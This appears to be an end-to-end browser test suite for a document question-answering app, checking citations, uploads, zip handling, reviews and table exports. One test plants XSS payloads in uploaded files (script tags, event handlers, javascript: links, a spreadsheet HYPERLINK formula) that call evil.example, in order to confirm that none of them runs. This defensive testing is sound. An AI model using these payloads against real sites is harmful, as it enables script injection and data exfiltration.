// What a person does with documents, and what a hostile document tries.
import { execFileSync } from "node:child_process";
import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { ask, base, check, open, samples, slow, test, upload, view, work } from "./kit.mjs";

const partners = [
  "Acme Ltd",
  "Aldine Press",
  "Borealis Timber",
  "Brightwater Foods",
  "Calder & Sons",
  "Corvus Freight",
  "Delta Lime",
  "Eastgate Tools",
  "Elm Street Bakery",
  "Fjord Cables",
  "Garnet Glass",
  "Halden Paper",
  "Ibis Textiles",
  "Juniper Farms",
  "Kestrel Optics",
  "Lindqvist AB",
  "Marlow Mills",
  "Northwind Shipping",
  "Oakfield Dairy",
  "Pemberton Steel",
  "Quarry Stone Co",
  "Rowan Chemicals",
  "Saltmarsh Fish",
  "Tern Logistics",
  "Umber Paints",
  "Vesper Lighting",
  "Wexford Wool",
  "Yarrow Seeds",
  "Zephyr Fans",
  "Zollern Valves",
];

export const page = await open(base);

await test("the first screen loads in less than a second and 150 KB", async () => {
  await page.waitForSelector(".sample-card");
  const other = await open(base);
  await other.waitForSelector(".sample-card");
  const { paint, bytes, loads } = await other.evaluate(() => ({
    paint: performance.getEntriesByName("first-contentful-paint")[0]?.startTime ?? 0,
    bytes:
      performance
        .getEntriesByType("resource")
        .filter((r) => /assets/.test(r.name))
        .reduce((sum, r) => sum + r.encodedBodySize, 0) + performance.getEntriesByType("navigation")[0].encodedBodySize,
    loads: performance.getEntriesByType("resource").filter((r) => /assets/.test(r.name)).length,
  }));
  await other.context().close();
  check(paint < 1000, `first paint after ${paint} ms`);
  check(bytes < 150 * 1024, `${bytes} bytes`);
  return `first paint ${Math.round(paint)} ms, ${(bytes / 1024).toFixed(1)} KiB in ${loads} files`;
});

await test("the sample handbook gives a cited answer within five seconds of opening", async () => {
  const started = Date.now();
  const fresh = await open(base);
  await fresh.click(".sample-card");
  await fresh.click(".suggestions button");
  await fresh.waitForSelector(".cite");
  const took = Date.now() - started;
  await fresh.waitForSelector(".meta .good");
  check(/(\d) of \1 quotations? verified/.test(await fresh.textContent(".meta .good")), "quotations are not verified");
  check(took < 5000, `${took} ms`);
  await fresh.context().close();
  return `${took} ms`;
});

await test("a citation opens its place, and the keys step through", async () => {
  await page.reload();
  await view(page, "ask");
  await page.waitForSelector("#question");
  await ask(page, "How many days of paid leave do I have?");
  await page.hover(".cite");
  check((await page.textContent(".quote-card q")).includes("28 days"), "the hover has no quotation");
  await page.click(".cite");
  await page.waitForSelector(".pane mark");
  check(
    (await page.textContent(".pane mark")) === "Every employee has 28 days of paid leave a year.",
    `marked is ${await page.textContent(".pane mark")}`,
  );
  check(await page.isVisible(".pane .lit mark"), "the paragraph is not light");
  const cites = await page.locator(".turn[data-last] .cite").count();
  await page.evaluate(() => document.activeElement.blur());
  await page.keyboard.press("]");
  await page.waitForFunction((k) => document.querySelector(".pane-steps span")?.textContent.startsWith("2 of") || k < 2, cites);
  await page.keyboard.press("1");
  await page.waitForFunction((k) => document.querySelector(".pane-steps span")?.textContent.startsWith("1 of") || k < 2, cites);
  await page.keyboard.press("Escape");
  await page.waitForSelector(".pane", { state: "detached" });
});

await test("a follow-up, an edited question, and what is not there", async () => {
  await ask(page, "And what do I do when I fall ill?");
  check((await page.locator(".turn").count()) === 2, "no second turn");
  await page.hover(".turn >> nth=0");
  await page.click(".turn >> nth=0 >> .edit");
  await page.fill(".edit-form textarea", "How much is paid for a hotel in Oslo?");
  await page.keyboard.press("Enter");
  await page.waitForFunction(() => document.querySelectorAll(".turn").length === 1 && document.querySelector(".turn footer"));
  check((await page.textContent(".answer")).includes("190"), `Oslo: ${await page.textContent(".answer")}`);
  await ask(page, "What is the melting point of tungsten?");
  check(await page.isVisible(".turn[data-last] .answer.nothing"), "nothing relevant is not shown as such");
});

await test("a conversation is kept, exported, linked and forgotten", async () => {
  await page.reload();
  await page.waitForSelector(".turn .cite");
  check((await page.locator(".history-row").count()) >= 1, "no history");
  await page.click("[aria-label='Export the conversation']");
  const [file] = await Promise.all([page.waitForEvent("download"), page.click(".menu-panel button:has-text('Markdown')")]);
  const text = readFileSync(await file.path(), "utf8");
  check(text.includes("[1] ") && text.includes("“"), "the export has no sources");
  await page.hover(".turn >> nth=0");
  await page.click(".turn >> nth=0 >> [aria-label='Copy a link to this answer']");
  const link = await page.evaluate(() => navigator.clipboard.readText());
  const other = await open(link);
  await other.waitForSelector("#question");
  await other.waitForFunction(() => document.querySelector("#question").value.includes("Oslo"));
  await other.context().close();
});

await test("a real PDF: uploaded, asked, the citation marked on its page", async () => {
  await view(page, "library/papers");
  await upload(page, [process.env.PDF ?? join(samples, "lamps.pdf")]);
  await page.waitForSelector(".row .doc");
  await page.click("button:has-text('Ask this collection')");
  await page.waitForSelector("#question");
  await ask(page, process.env.PDF_QUESTION ?? "What are the kinds of lamps?");
  await page.waitForSelector(".turn[data-last] .cite");
  await page.click(".turn[data-last] .cite");
  await page.waitForSelector(".pdf-page canvas", { timeout: 15000 });
  await page.waitForSelector(".pdf-mark", { timeout: 15000 });
  const at = await page.evaluate(() => {
    const mark = document.querySelector(".pdf-mark"),
      p = mark.closest(".pdf-page"),
      box = mark.getBoundingClientRect(),
      pane = document.querySelector(".pane-body").getBoundingClientRect();
    return {
      page: p.dataset.page,
      seen: box.top >= pane.top && box.bottom <= pane.bottom,
      said: document.querySelector(".pane-title p").textContent,
    };
  });
  check(at.seen, "the mark is not in view");
  check(at.said.includes(`page ${at.page}`), `marked on page ${at.page}, the pane says ${at.said}`);
  return `page ${at.page}`;
});

await test("steps and bullets are a list, each with its number", async () => {
  writeFileSync(
    join(work, "kettle.md"),
    "# Kettle\n\n## Descaling\n\nDescale the kettle every two months.\n\nTo descale:\n\n1. Fill the kettle with the descaling solution.\n" +
      "2. Let it stand for an hour.\n3. Rinse the kettle with clear water.\n\n" +
      "## Colours\n\nThe kettle comes in these colours:\n\n- cherry red\n- moss green\n- slate grey\n",
  );
  await view(page, "library/kettles");
  await upload(page, [join(work, "kettle.md")]);
  await page.waitForSelector(".row .doc:has-text('Kettle')");
  await page.click("button:has-text('Ask this collection')");
  await page.waitForSelector("#question");
  for (const [question, kind, items] of [
    [
      "How do I descale the kettle?",
      "ol",
      ["Fill the kettle with the descaling solution.", "Let it stand for an hour.", "Rinse the kettle with clear water."],
    ],
    ["Which colours does the kettle come in?", "ul", ["cherry red", "moss green", "slate grey"]],
  ]) {
    await ask(page, question);
    const said = await page.$$eval(`.turn[data-last] .prose > ${kind} > li`, (all) =>
      all.map((one) => {
        const cite = one.querySelector(".cite");
        const line = document.createRange();
        line.selectNodeContents(one);
        const alone = cite && cite.getBoundingClientRect().top > line.getBoundingClientRect().top + 20;
        return cite && !alone ? one.textContent.slice(0, -cite.textContent.length).trim() : `no number beside ${one.textContent}`;
      }),
    );
    check(said.join("|") === items.join("|"), `${question} ${said.join("|")}: ${await page.innerHTML(".turn[data-last] .prose")}`);
  }
});

await test("a wide table beside its answer scrolls, and breaks no word", async () => {
  const columns = ["Varieties", "Categories", "Measurements", "Availability", "Deliveries", "Suppliers"];
  writeFileSync(
    join(work, "plants.md"),
    `# Plants\n\n| ${columns.join(" | ")} |\n|${"---|".repeat(6)}\n| Lavender | Perennial | Centimetres | Throughout | Wednesdays | Greenfingers |\n`,
  );
  await view(page, "library/plants");
  await upload(page, [join(work, "plants.md")]);
  await page.waitForSelector(".row .doc:has-text('Plants')");
  await page.click("button:has-text('Ask this collection')");
  await page.waitForSelector("#question");
  await ask(page, "Which category is lavender?");
  await page.click(".turn[data-last] .cite");
  await page.waitForSelector(".pane mark");
  const { broken, wide } = await page.$eval(".pane .table", (box) => ({
    broken: [...box.querySelectorAll("th, td")].filter((cell) => cell.clientHeight > 45).map((cell) => cell.textContent),
    wide: box.scrollWidth > box.clientWidth,
  }));
  check(!broken.length && wide, `broken are ${broken}; ${wide ? "it scrolls" : "it does not scroll"}`);
  await page.keyboard.press("Escape");
});

await test("a folder of 30 files with one failure, tried again, deleted and taken back", async () => {
  const dir = join(work, "agreements");
  mkdirSync(dir, { recursive: true });
  const files = Array.from({ length: 30 }, (_, i) => {
    const at = join(dir, i === 7 ? "broken.pdf" : `${partners[i].toLowerCase().replaceAll(/[^a-z]+/g, "-")}.md`);
    writeFileSync(
      at,
      i === 7
        ? "%PDF-1.4 not really"
        : `# Supply agreement with ${partners[i]}\n\n## Term\n\nThe agreement begins on ${1 + (i % 28)} March 2026. ` +
            `The notice period is ${[4, 6, 8, 12][i % 4]} weeks to the end of a quarter.\n\n## Payment\n\nInvoices of ${partners[i]} are paid within ${[14, 30, 45][i % 3]} days.\n`,
    );
    return at;
  });
  await view(page, "library/agreements");
  await page.waitForSelector("h1:has-text('agreements')");
  await upload(page, files);
  check((await page.textContent(".progress-head")).includes("29 documents read"), await page.textContent(".progress-head"));
  check((await page.textContent(".progress-head")).includes("1 failed"), "the failure is not counted");
  check((await page.textContent(".failures .job")).includes("broken.pdf"), "the failure is not named");
  const [list] = await Promise.all([page.waitForEvent("download"), page.click("button:has-text('List of failures')")]);
  check(readFileSync(await list.path(), "utf8").includes("broken.pdf"), "the list lacks it");
  await page.click(".failures button:has-text('Try again')");
  await page.waitForFunction(() => document.querySelector(".failures .job") && !document.querySelector(".progress progress"));
  await page.click("[aria-label='Close']");
  await page.waitForFunction(() => document.querySelectorAll(".rows .row .doc").length > 5);
  await page.hover(".rows .row:nth-child(3)");
  await page.click(".rows .row:nth-child(3) [aria-label^='Delete']");
  await page.waitForFunction(() => document.querySelector(".documents .bar").textContent.includes("28 documents"));
  await page.click(".notice button:has-text('Undo')");
  await page.waitForFunction(() => document.querySelector(".documents .bar").textContent.includes("29 documents"));
  // What is deleted when the page is left is deleted.
  await view(page, "library/left");
  await page.waitForSelector("h1:has-text('left')");
  await upload(page, [join(dir, "acme-ltd.md")]);
  await page.hover(".rows .row:has(.doc)");
  await page.click(".rows .row:has(.doc) [aria-label^='Delete']");
  await page.goto("about:blank");
  for (let i = 0; (await (await fetch(`${base}/v1/artifacts/list?collection=left`)).json()).data.length; i++) {
    check(i < 50, "the document is still there");
    await page.waitForTimeout(50);
  }
  await page.goto(base);
});

await test("a zip counts as the files in it, as by the API", async () => {
  execFileSync("python3", [
    "-c",
    `import sys, zipfile
with zipfile.ZipFile(sys.argv[1], "w", zipfile.ZIP_DEFLATED) as z:
    for name, text in {"notes/lemons.md": "# Lemons\\n\\nLemons are yellow.", "über Äpfel.txt": "Äpfel sind rund.", "notes/engine.xyz": "?",
                       "__MACOSX/._lemons.md": "?", ".DS_Store": "?"}.items():
        z.writestr(name, text)
open(sys.argv[2], "wb").write(b"PK\\x03\\x04 and no more")
zipfile.ZipFile(sys.argv[3], "w").close()`,
    join(work, "fruit.zip"),
    join(work, "damaged.zip"),
    join(work, "empty.ZIP"),
  ]);
  await view(page, "library/fruit");
  await upload(page, [join(work, "fruit.zip"), join(work, "damaged.zip"), join(work, "empty.ZIP")]);
  await page.waitForSelector(".row .doc:has-text('Lemons')");
  const failed = await page.$$eval(".failures .job", (all) => all.map((one) => one.textContent).sort());
  check(
    failed.join("|") ===
      "damaged.zipThe file is damaged, or not what its name says.|empty.ZIPThe zip holds no files.|notes/engine.xyzFiles of the kind .xyz cannot be read.",
    failed.join("|"),
  );
  const list = await page.evaluate(async () => (await (await fetch("v1/artifacts/list?collection=fruit")).json()).data.map((d) => d.artifact).sort());
  check(list.join("|") === "notes/lemons.md|über Äpfel.txt", list.join("|"));
});

await test("a long ingest is stopped", async () => {
  await view(page, "library/stopped");
  await page.waitForSelector("h1:has-text('stopped')");
  await page.setInputFiles(
    ".files",
    Array.from({ length: 300 }, (_, i) => ({
      name: `many-${i}.md`,
      mimeType: "text/markdown",
      buffer: Buffer.from(`# ${i}\n\nText ${i}.\n`),
    })),
  );
  await page.waitForFunction(() => /Reading \d+ of 300/.test(document.querySelector(".progress-head")?.textContent ?? ""));
  await page.click(".progress button:has-text('Stop')");
  await page.waitForFunction(() => document.querySelector(".progress") && !document.querySelector(".progress progress"), null, {
    timeout: 15000,
  });
  const said = await page.textContent(".progress-head b");
  check(Number(said.split(" ")[0]) < 300, said);
  return said;
});

await test("a stream is stopped", async () => {
  const p = await open(`${slow}/#/ask`);
  await p.click(".sample-card");
  await p.waitForSelector("#question");
  await p.fill("#question", "Tell me everything.");
  await p.keyboard.press("Enter");
  await p.waitForFunction(() => document.querySelector(".answer")?.textContent.includes("word 3"));
  await p.click("[aria-label='Stop']");
  await p.waitForSelector("text=Stopped.");
  const said = await p.textContent(".answer");
  await p.waitForTimeout(400);
  check(said === (await p.textContent(".answer")), "it goes on");
  check(!said.includes("word 200"), "it was not stopped");
  await p.fill("#question", "And the rest?");
  await p.keyboard.press("Enter");
  await p.waitForFunction(() => [...document.querySelectorAll(".answer")].at(-1)?.textContent.includes("word 3") && document.querySelectorAll(".answer").length === 2);
  await p.click("[aria-label='Stop']");
  await p.waitForSelector("button[aria-label='Ask']");
  await p.context().close();
});

await test("a document that is dropped on an open conversation is asked", async () => {
  const p = await open(`${slow}/#/ask`);
  await p.waitForSelector("#question");
  const files = await p.evaluateHandle(() => {
    const d = new DataTransfer();
    d.items.add(new File(["The gate of the yard is opened at six."], "gate.md", { type: "text/markdown" }));
    return d;
  });
  await p.dispatchEvent(".ask", "drop", { dataTransfer: files });
  await p.waitForSelector(".progress:has-text('1 document read')");
  await p.waitForSelector(".scope:has-text('Documents')");
  await p.context().close();
});

await test("a table with a chart, exported as CSV and PNG", async () => {
  const at = join(work, "sales.csv");
  writeFileSync(
    at,
    "Region,Amount,Day\n" +
      Array.from({ length: 60 }, (_, i) => `${["North", "South", "East", "West"][i % 4]},${100 + i * 3},2026-0${1 + (i % 9)}-11`).join(
        "\n",
      ) +
      "\n",
  );
  await view(page, "library/sheets");
  await page.waitForSelector("h1:has-text('sheets')");
  await upload(page, [at]);
  await view(page, "tables");
  await page.waitForSelector("[aria-label='Sheet'], .drop-zone");
  await page.fill("#question", "What is the total amount per region?");
  await page.keyboard.press("Enter");
  await page.waitForSelector(".chart");
  check((await page.locator(".chart rect").count()) === 4, "not four bars");
  check((await page.textContent(".sql pre")).includes("SELECT"), "no statement");
  const [csv] = await Promise.all([page.waitForEvent("download"), page.click("button:has-text('CSV')")]);
  check(readFileSync(await csv.path(), "utf8").startsWith("region,"), "the CSV");
  const [png] = await Promise.all([page.waitForEvent("download"), page.click("button:has-text('PNG')")]);
  check(
    readFileSync(await png.path())
      .subarray(1, 4)
      .toString() === "PNG",
    "the PNG",
  );
});

await test("search with its reasons and a filter", async () => {
  await view(page, "search");
  await page.waitForSelector("#search");
  await page.selectOption("[aria-label='Collection']", "agreements");
  await page.fill("#search", "notice period with Acme");
  await page.keyboard.press("Enter");
  await page.waitForSelector(".result");
  await page.click(".result summary");
  check((await page.textContent(".explain")).includes("notice"), "no words that match");
  await page.click("button:has-text('Filter')");
  await page.fill("[aria-label='Field']", "file_name");
  await page.fill("[aria-label='Value']", "acme-ltd.md");
  await page.click(".search-line button");
  await page.waitForFunction(() => {
    const all = [...document.querySelectorAll(".result-title")];
    return all.length > 0 && all.every((r) => r.textContent.includes("Acme"));
  });
  await page.click(".result-title");
  await page.waitForSelector(".pane mark");
});

await test("a SQLite file is asked: the rows, the statement, a line over the months, exports", async () => {
  const at = join(work, "shop.sqlite");
  execFileSync("python3", [
    "-c",
    `
import sqlite3, sys
db = sqlite3.connect(sys.argv[1])
db.execute("CREATE TABLE orders (id INTEGER PRIMARY KEY, month TEXT, customer TEXT, amount REAL)")
db.executemany("INSERT INTO orders (month, customer, amount) VALUES (?, ?, ?)",
    [(f"2026-{1 + i % 9:02d}", ["Acme", "Borealis", "Corvus"][i % 3], 100 + i) for i in range(90)])
db.commit()`,
    at,
  ]);
  await view(page, "tables");
  await page.waitForSelector(".sqlite", { state: "attached" });
  await page.setInputFiles(".sqlite", at);
  await page.waitForSelector(".chip-static:has-text('shop.sqlite')");
  await page.fill("#question", "What is the total amount per month?");
  await page.keyboard.press("Enter");
  await page.waitForSelector(".table-answer .chart .line");
  check((await page.locator(".sheet tbody tr").count()) === 9, `${await page.locator(".sheet tbody tr").count()} months`);
  check(/SELECT[^]*orders/i.test(await page.textContent(".sql pre")), "no statement");
  const [csv] = await Promise.all([page.waitForEvent("download"), page.click("button:has-text('CSV')")]);
  const rows = readFileSync(await csv.path(), "utf8")
    .trim()
    .split(/\r?\n/);
  check(rows.length === 10 && rows[1].startsWith("2026-01,"), `the CSV: ${rows.slice(0, 2)}`);
  const [png] = await Promise.all([page.waitForEvent("download"), page.click("button:has-text('PNG')")]);
  check(
    readFileSync(await png.path())
      .subarray(1, 4)
      .toString() === "PNG",
    "the PNG",
  );
  await page.click(".choice button:has-text('Bars')");
  check((await page.locator(".chart rect").count()) === 9, "not nine bars");
});

await test("a review goes on without the page, and its counts and cells are exact", async () => {
  await view(page, "review");
  await page.waitForSelector("#question");
  await page.selectOption("[aria-label='Collection']", "agreements");
  await page.fill("#question", "How many weeks is the notice period with Acme Ltd?");
  await page.keyboard.press("Enter");
  await page.waitForSelector(".review-head");
  await page.goto("about:blank");
  await page.goto(`${base}/#/review`);
  await page.click(".past a:has-text('Acme Ltd')");
  await page.waitForSelector(".sheet-bar:has-text('answered')", { timeout: 30000 });
  check((await page.locator(".review tbody tr").count()) === 29, "not a row for each document");
  const [answered, nothing] = (await page.textContent(".sheet-bar"))
    .match(/(\d+) of 29 answered(\d+) without/)
    .slice(1)
    .map(Number);
  check(answered + nothing === 29, `${answered} answered, ${nothing} not, of 29`);
  check((await page.locator(".review tbody tr:has(.cite)").count()) === answered, "cells are not cited as counted");
  check((await page.locator(".review .cite.differs").count()) === 0, "quotations do not stand");
  const [csv] = await Promise.all([page.waitForEvent("download"), page.click("button:has-text('CSV')")]);
  const rows = readFileSync(await csv.path(), "utf8")
    .trim()
    .split("\r\n");
  check(rows.length === 30 && rows.filter((r) => r.includes(",answered,")).length === answered, `the CSV has ${rows.length} lines`);
  await page.click(".review tr:has-text('Acme Ltd') .cite");
  await page.waitForSelector(".pane mark");
  await page.keyboard.press("Escape");
  await page.click("text=New review");
  await page.hover(".past li");
  await page.click(".past li:has-text('Acme Ltd') .icon-button");
  await page.waitForSelector(".past li", { state: "detached" });
});

await test("chosen documents are reviewed, and a review is stopped", async () => {
  await view(page, "library/agreements");
  await page.check(".rows .row:nth-child(3) input");
  await page.check(".rows .row:nth-child(4) input");
  await page.click("button:has-text('Review these')");
  await page.waitForSelector("text=2 chosen documents");
  await page.fill("#question", "Within how many days are invoices paid?");
  await page.keyboard.press("Enter");
  await page.waitForSelector("text=2 of 2 answered");
  const p = await open(`${slow}/#/library/slow`);
  await upload(
    p,
    Array.from({ length: 3 }, (_, i) => ({ name: `${i}.md`, mimeType: "text/markdown", buffer: Buffer.from(`# ${i}\n\nText ${i}.\n`) })),
  );
  await view(p, "review");
  await p.waitForSelector("#question");
  await p.selectOption("[aria-label='Collection']", "slow");
  await p.fill("#question", "What is the text?");
  await p.keyboard.press("Enter");
  await p.click(".sheet-bar button:has-text('Stop')");
  await p.waitForSelector(".sheet-bar:has-text('stopped')", { timeout: 30000 });
  await p.context().close();
});

await test("a hostile document runs nothing", async () => {
  const dir = join(work, "hostile");
  mkdirSync(dir, { recursive: true });
  const code = (k) => `window.ran=${k};fetch('https://evil.example/'+${k})`;
  const files = {
    "<img src=x onerror=window.ran=1>.md": `# Robins <script>${code(2)}</script>\n\nRobins sing <img src=x onerror="${code(3)}"> in spring [click](javascript:${encodeURIComponent(code(4))}) ![pixel](https://evil.example/p.png) loudly.\n\n<svg onload="${code(5)}"></svg> \uE0001\uE001\n`,
    "page.html": `<html><head><title>Wrens <script>${code(6)}</script></title></head><body><h1>Wrens</h1><p onclick="${code(7)}">Wrens build nests <script>${code(8)}</script> of moss.</p><iframe src="https://evil.example/"></iframe></body></html>`,
    "table.csv": `name,value\n"<b onmouseover=${code(9)}>x</b>",1\n"=HYPERLINK(""https://evil.example"")",2\n`,
  };
  const at = Object.entries(files).map(([name, body]) => ({ name, mimeType: "text/plain", buffer: Buffer.from(body) }));
  await view(page, "library/hostile");
  await page.waitForSelector("h1:has-text('hostile')");
  await upload(page, at);
  for (const row of await page.locator(".row .doc").all()) {
    await row.click();
    await page.waitForSelector(".pane .stored");
  }
  await page.click("button:has-text('Ask this collection')");
  for (const q of ["What do robins do in spring?", "What do wrens build?", "What is the name with value 1?"]) {
    await ask(page, q);
    for (const c of await page.locator(".turn[data-last] .cite").all()) {
      await c.hover();
      await c.click();
      await page.waitForTimeout(50);
    }
  }
  await page.waitForTimeout(300);
  check(await page.evaluate(() => window.ran === undefined), `ran ${await page.evaluate(() => window.ran)}`);
  check((await page.locator("main img, main iframe, .pane img, .pane iframe, main svg[onload]").count()) === 0, "foreign elements");
});

await test("an answer loads no picture and no page from elsewhere", async () => {
  const p = await open(`${slow}/#/ask`);
  await p.waitForSelector("#question");
  await ask(p, "Show a picture");
  await p.waitForFunction(() => document.querySelector(".turn[data-last] .answer")?.textContent.includes("said"));
  await p.waitForTimeout(300);
  check((await p.locator("main img, main iframe, main link, main [style*=evil]").count()) === 0, "foreign elements");
  await p.context().close();
});
